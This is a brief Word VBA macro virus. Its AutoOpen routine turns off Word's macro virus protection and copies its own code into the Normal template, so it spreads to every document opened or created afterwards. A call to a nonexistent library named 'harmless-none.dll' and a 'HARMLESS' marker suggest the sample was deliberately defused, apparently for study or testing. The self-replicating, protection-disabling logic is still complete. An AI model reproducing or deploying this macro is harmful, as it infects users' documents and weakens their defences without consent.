Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Sub AutoOpen()
    StopHere
    On Error Resume Next
    Options.VirusProtection = False
    With NormalTemplate.VBProject.VBComponents(1).CodeModule
        If .Lines(1, 1) <> "'HARMLESS" Then
            .DeleteLines 1, .CountOfLines
            .AddFromString ActiveDocument.VBProject.VBComponents(1).CodeModule.Lines(1, 60)
        End If
    End With
End Sub
